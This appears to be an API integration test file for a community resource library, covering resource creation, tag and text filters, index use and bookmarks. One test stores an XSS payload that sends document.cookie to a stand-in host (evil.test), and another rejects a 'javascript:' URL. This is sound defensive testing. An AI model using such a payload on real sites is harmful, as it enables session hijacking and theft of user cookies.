/**
 * Community resource library and bookmarks: create (admin/coach), list with
 * type/tags/text filters, bookmarks (409 on repeat), and that the filters are
 * served by the GIN indexes.
 */

import { sql } from "drizzle-orm";
import { PgDialect } from "drizzle-orm/pg-core";
import { afterAll, describe, expect, it } from "vitest";
import { resourceFilterConditions } from "../../src/services/community/resources.ts";
import { del, expectEnvelope, get, type Json, post } from "../helpers/api.ts";
import { closeTestPool, query, testPool } from "../helpers/db.ts";
import { createClient, createCoach, createUser, type TestUser } from "../helpers/fixtures.ts";

afterAll(closeTestPool);

const MALFORMED_ID = "not-a-uuid";
const UNKNOWN_ID = "00000000-0000-4000-8000-000000000000";

/** A word no other test uses: filters on it see only this test's resources. */
function token(prefix: string): string {
  return `${prefix}${crypto.randomUUID().replace(/-/g, "").slice(0, 10)}`;
}

async function createResource(creator: TestUser, overrides: Record<string, unknown> = {}): Promise<Json> {
  const result = await post(
    "/community/resources",
    {
      title: `Guide ${token("t")}`,
      description: "Useful reading",
      resource_type: "article",
      url: "https://example.test/guide",
      tags: [],
      ...overrides,
    },
    { token: creator.token },
  );
  expect(result.status, result.text).toBe(201);
  return result.body;
}

function ids(result: { body: Json }): string[] {
  return (result.body.items as Json[]).map((item) => item.id as string);
}

describe("POST /community/resources", () => {
  it("lets a coach add a resource; tags are trimmed, lower-cased and de-duplicated", async () => {
    const coach = await createCoach({ firstName: "Greta" });
    const result = await post(
      "/community/resources",
      {
        title: "Negotiating across cultures",
        description: "High-context vs low-context",
        resource_type: "video",
        url: "https://videos.example.test/negotiation?x=1",
        tags: [" Negotiation ", "COMMUNICATION", "negotiation"],
      },
      { token: coach.token },
    );
    expect(result.status).toBe(201);
    expect(result.body).toEqual({
      id: expect.stringMatching(/^[0-9a-f-]{36}$/),
      title: "Negotiating across cultures",
      description: "High-context vs low-context",
      resource_type: "video",
      url: "https://videos.example.test/negotiation?x=1",
      tags: ["negotiation", "communication"],
      created_by: { id: coach.id, first_name: "Greta" },
      created_at: expect.stringMatching(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/),
    });
  });

  it("lets an admin add one (no profile: first_name null); description and tags are optional", async () => {
    const admin = await createUser("admin");
    const result = await post(
      "/community/resources",
      { title: "Checklist", resource_type: "document", url: "http://docs.example.test/list.pdf" },
      { token: admin.token },
    );
    expect(result.status).toBe(201);
    expect(result.body).toMatchObject({ description: null, tags: [], created_by: { id: admin.id, first_name: null } });
  });

  it("stores XSS-looking text verbatim", async () => {
    const coach = await createCoach();
    const payload = `<script>document.location="https://evil.test/?c="+document.cookie</script>`;
    const created = await createResource(coach, { title: `<img src=x onerror=alert(1)>`, description: payload });
    expect(created.description).toBe(payload);
    expect(created.title).toBe(`<img src=x onerror=alert(1)>`);
  });

  it("refuses clients with 403", async () => {
    const client = await createClient();
    const result = await post(
      "/community/resources",
      { title: "Mine", resource_type: "article", url: "https://example.test" },
      { token: client.token },
    );
    expectEnvelope(result, 403, "FORBIDDEN");
  });

  it("rejects bad input with 400", async () => {
    const coach = await createCoach();
    const valid = { title: "t", resource_type: "article", url: "https://example.test", tags: ["a"] };
    const cases: Record<string, unknown>[] = [
      { ...valid, title: "" },
      { ...valid, title: "x".repeat(201) },
      { ...valid, description: "x".repeat(5_001) },
      { ...valid, resource_type: "podcast" },
      { ...valid, url: "javascript:alert(1)" },
      { ...valid, url: "ftp://example.test/file" },
      { ...valid, url: "not a url" },
      { ...valid, url: `https://example.test/${"x".repeat(500)}` },
      { title: "t", resource_type: "article" },
      { ...valid, tags: ["   "] },
      { ...valid, tags: ["x".repeat(51)] },
      { ...valid, tags: Array.from({ length: 21 }, (_, i) => `tag${i}`) },
      { ...valid, tags: "a,b" },
      { ...valid, tags: [1] },
    ];
    for (const body of cases) {
      expectEnvelope(await post("/community/resources", body, { token: coach.token }), 400, "VALIDATION_ERROR");
    }
    const [row] = await query<{ n: number }>(`SELECT count(*)::int AS n FROM resources WHERE created_by = $1`, [coach.id]);
    expect(row?.n).toBe(0);
  });

  it("requires authentication", async () => {
    expectEnvelope(
      await post("/community/resources", { title: "t", resource_type: "article", url: "https://example.test" }),
      401,
      "UNAUTHORIZED",
    );
  });
});

describe("GET /community/resources", () => {
  it("lists newest first with the contract's shape, for any role", async () => {
    const coach = await createCoach({ firstName: "Hugo" });
    const first = await createResource(coach);
    const second = await createResource(coach);
    const client = await createClient();
    const result = await get("/community/resources?limit=100", { token: client.token });
    expect(result.status).toBe(200);
    expect(result.body).toMatchObject({ skip: 0, limit: 100 });
    const listed = ids(result);
    expect(listed.indexOf(second.id)).toBeGreaterThanOrEqual(0);
    expect(listed.indexOf(second.id)).toBeLessThan(listed.indexOf(first.id));
    expect((result.body.items as Json[]).find((item) => item.id === first.id)).toEqual(first);
  });

  it("filters by one tag and by two tags (all must match), case-insensitively", async () => {
    const coach = await createCoach();
    const [family, relocation] = [token("family"), token("relocation")];
    const both = await createResource(coach, { tags: [family, relocation, "extra"] });
    const familyOnly = await createResource(coach, { tags: [family] });
    const relocationOnly = await createResource(coach, { tags: [relocation] });
    await createResource(coach, { tags: ["unrelated"] });

    const one = await get(`/community/resources?tags=${family}`, { token: coach.token });
    expect(new Set(ids(one))).toEqual(new Set([both.id, familyOnly.id]));
    expect(one.body.total).toBe(2);

    const two = await get(`/community/resources?tags=${family},${relocation}`, { token: coach.token });
    expect(ids(two)).toEqual([both.id]);
    expect(two.body.total).toBe(1);

    const shouted = await get(`/community/resources?tags=${encodeURIComponent(` ${relocation.toUpperCase()} , `)}`, {
      token: coach.token,
    });
    expect(new Set(ids(shouted))).toEqual(new Set([both.id, relocationOnly.id]));

    const none = await get(`/community/resources?tags=${family},${token("nothing")}`, { token: coach.token });
    expect(none.body).toMatchObject({ items: [], total: 0 });
  });

  it("filters by resource_type together with tags", async () => {
    const coach = await createCoach();
    const tag = token("media");
    const video = await createResource(coach, { resource_type: "video", tags: [tag] });
    await createResource(coach, { resource_type: "article", tags: [tag] });
    const result = await get(`/community/resources?resource_type=video&tags=${tag}`, { token: coach.token });
    expect(ids(result)).toEqual([video.id]);
  });

  it("searches title and description with q (all words, as word prefixes)", async () => {
    const coach = await createCoach();
    const word = token("zanzibar");
    const inTitle = await createResource(coach, { title: `Moving to ${word} with kids`, description: "Schools and doctors" });
    const inDescription = await createResource(coach, {
      title: "Island life",
      description: `Everything about ${word}: ferries, markets.`,
    });
    await createResource(coach, { title: "Unrelated", description: "Nothing here" });

    const byWord = await get(`/community/resources?q=${word}`, { token: coach.token });
    expect(new Set(ids(byWord))).toEqual(new Set([inTitle.id, inDescription.id]));

    const twoWords = await get(`/community/resources?q=${encodeURIComponent(`${word.toUpperCase()} schools`)}`, {
      token: coach.token,
    });
    expect(ids(twoWords)).toEqual([inTitle.id]);

    const prefix = await get(`/community/resources?q=${word.slice(0, -3)}`, { token: coach.token });
    expect(new Set(ids(prefix))).toEqual(new Set([inTitle.id, inDescription.id]));

    // tsquery operators in the input are plain separators, never a syntax error.
    const operators = await get(`/community/resources?q=${encodeURIComponent(`${word} & !(|:* '`)}`, { token: coach.token });
    expect(operators.status).toBe(200);
    expect(new Set(ids(operators))).toEqual(new Set([inTitle.id, inDescription.id]));

    const combined = await get(`/community/resources?q=${word}&resource_type=video`, { token: coach.token });
    expect(combined.body).toMatchObject({ items: [], total: 0 });
  });

  it("rejects bad filters with 400", async () => {
    const user = await createClient();
    const tooMany = Array.from({ length: 21 }, (_, i) => `t${i}`).join(",");
    for (const search of [
      "resource_type=podcast",
      `tags=${tooMany}`,
      `tags=${"x".repeat(51)}`,
      "q=%21%21%21",
      `q=${"a".repeat(201)}`,
      "limit=0",
      "skip=-5",
    ]) {
      expectEnvelope(await get(`/community/resources?${search}`, { token: user.token }), 400, "VALIDATION_ERROR");
    }
  });

  it("treats empty tags and a blank q as no filter", async () => {
    const user = await createClient();
    const all = await get("/community/resources?limit=1", { token: user.token });
    const blank = await get("/community/resources?limit=1&tags=,,&q=%20", { token: user.token });
    expect(blank.status).toBe(200);
    expect(blank.body.total).toBeGreaterThanOrEqual(all.body.total);
  });

  it("shows created_by null once the creator's account is gone", async () => {
    const coach = await createCoach();
    const tag = token("orphan");
    const created = await createResource(coach, { tags: [tag] });
    await query(`DELETE FROM users WHERE id = $1`, [coach.id]);
    const result = await get(`/community/resources?tags=${tag}`, { token: (await createClient()).token });
    expect(result.body.items).toEqual([{ ...created, created_by: null }]);
  });

  it("is one database round trip, filters included", async () => {
    const user = await createClient();
    for (const search of ["", "?tags=a,b", "?q=culture&resource_type=article", "?skip=1000000"]) {
      const result = await get(`/community/resources${search}`, { token: user.token });
      expect(result.status).toBe(200);
      expect(result.headers.get("x-db-queries")).toBe("1");
    }
  });

  it("uses the GIN indexes for tags and q (the same expressions the service sends)", async () => {
    const dialect = new PgDialect();
    const client = await testPool().connect();
    try {
      await client.query("BEGIN");
      // Tiny tables: forbid sequential scans so the plan shows whether an index can serve the condition.
      await client.query("SET LOCAL enable_seqscan = off");
      const plans: Record<string, string> = {};
      for (const [name, filters] of Object.entries({ tags: { tags: ["family", "relocation"] }, q: { q: "culture shock" } })) {
        const [condition] = resourceFilterConditions(filters);
        const compiled = dialect.sqlToQuery(sql`explain select id from resources where ${condition}`);
        const result = await client.query<{ "QUERY PLAN": string }>(compiled.sql, compiled.params);
        plans[name] = result.rows.map((row) => row["QUERY PLAN"]).join("\n");
      }
      expect(plans.tags).toContain("ix_resources_tags");
      expect(plans.q).toContain("ix_resources_search");
    } finally {
      await client.query("ROLLBACK");
      client.release();
    }
  });

  it("requires authentication", async () => {
    expectEnvelope(await get("/community/resources"), 401, "UNAUTHORIZED");
  });
});

describe("bookmarks", () => {
  it("POST bookmarks a resource (201 {message}); a second bookmark is 409", async () => {
    const resource = await createResource(await createCoach());
    const user = await createClient();
    const first = await post(`/community/resources/${resource.id}/bookmark`, undefined, { token: user.token });
    expect(first.status).toBe(201);
    expect(first.body).toEqual({ message: expect.any(String) });
    expectEnvelope(await post(`/community/resources/${resource.id}/bookmark`, undefined, { token: user.token }), 409, "CONFLICT");
    const [row] = await query<{ n: number }>(`SELECT count(*)::int AS n FROM bookmarks WHERE user_id = $1`, [user.id]);
    expect(row?.n).toBe(1);
  });

  it("POST answers 404 for an unknown resource and 400 for a malformed id", async () => {
    const user = await createClient();
    expectEnvelope(await post(`/community/resources/${UNKNOWN_ID}/bookmark`, undefined, { token: user.token }), 404, "NOT_FOUND");
    expectEnvelope(
      await post(`/community/resources/${MALFORMED_ID}/bookmark`, undefined, { token: user.token }),
      400,
      "VALIDATION_ERROR",
    );
  });

  it("DELETE removes the caller's bookmark (204), then 404 because there is none", async () => {
    const resource = await createResource(await createCoach());
    const user = await createClient();
    await post(`/community/resources/${resource.id}/bookmark`, undefined, { token: user.token });
    const removed = await del(`/community/resources/${resource.id}/bookmark`, { token: user.token });
    expect(removed.status).toBe(204);
    expect(removed.text).toBe("");
    expectEnvelope(await del(`/community/resources/${resource.id}/bookmark`, { token: user.token }), 404, "NOT_FOUND");
    expectEnvelope(await del(`/community/resources/${MALFORMED_ID}/bookmark`, { token: user.token }), 400, "VALIDATION_ERROR");
    // Bookmarking again after removal works.
    expect((await post(`/community/resources/${resource.id}/bookmark`, undefined, { token: user.token })).status).toBe(201);
  });

  it("DELETE never touches another user's bookmark", async () => {
    const resource = await createResource(await createCoach());
    const [owner, other] = [await createClient(), await createClient()];
    await post(`/community/resources/${resource.id}/bookmark`, undefined, { token: owner.token });
    expectEnvelope(await del(`/community/resources/${resource.id}/bookmark`, { token: other.token }), 404, "NOT_FOUND");
    const [row] = await query<{ n: number }>(`SELECT count(*)::int AS n FROM bookmarks WHERE user_id = $1`, [owner.id]);
    expect(row?.n).toBe(1);
  });

  it("GET /community/resources/bookmarks lists only the caller's bookmarks, newest bookmark first, paginated", async () => {
    const coach = await createCoach({ firstName: "Iris" });
    const [a, b, c] = [await createResource(coach), await createResource(coach), await createResource(coach)];
    const user = await createClient();
    const other = await createClient();
    for (const resource of [b, a, c])
      await post(`/community/resources/${resource.id}/bookmark`, undefined, { token: user.token });
    await post(`/community/resources/${a.id}/bookmark`, undefined, { token: other.token });

    const result = await get("/community/resources/bookmarks", { token: user.token });
    expect(result.status).toBe(200);
    expect(result.body).toEqual({ items: [c, a, b], total: 3, skip: 0, limit: 20 });

    const page = await get("/community/resources/bookmarks?limit=1&skip=1", { token: user.token });
    expect(page.body).toEqual({ items: [a], total: 3, skip: 1, limit: 1 });
    const beyond = await get("/community/resources/bookmarks?skip=10", { token: user.token });
    expect(beyond.body).toEqual({ items: [], total: 3, skip: 10, limit: 20 });

    expect((await get("/community/resources/bookmarks", { token: other.token })).body).toMatchObject({ items: [a], total: 1 });
    expect((await get("/community/resources/bookmarks", { token: (await createCoach()).token })).body).toMatchObject({
      items: [],
      total: 0,
    });
  });

  it("GET /community/resources/bookmarks is one round trip and rejects bad pagination", async () => {
    const user = await createClient();
    const result = await get("/community/resources/bookmarks", { token: user.token });
    expect(result.headers.get("x-db-queries")).toBe("1");
    expectEnvelope(await get("/community/resources/bookmarks?limit=500", { token: user.token }), 400, "VALIDATION_ERROR");
  });

  it("require authentication", async () => {
    expectEnvelope(await get("/community/resources/bookmarks"), 401, "UNAUTHORIZED");
    expectEnvelope(await post(`/community/resources/${UNKNOWN_ID}/bookmark`), 401, "UNAUTHORIZED");
    expectEnvelope(await del(`/community/resources/${UNKNOWN_ID}/bookmark`), 401, "UNAUTHORIZED");
  });
});
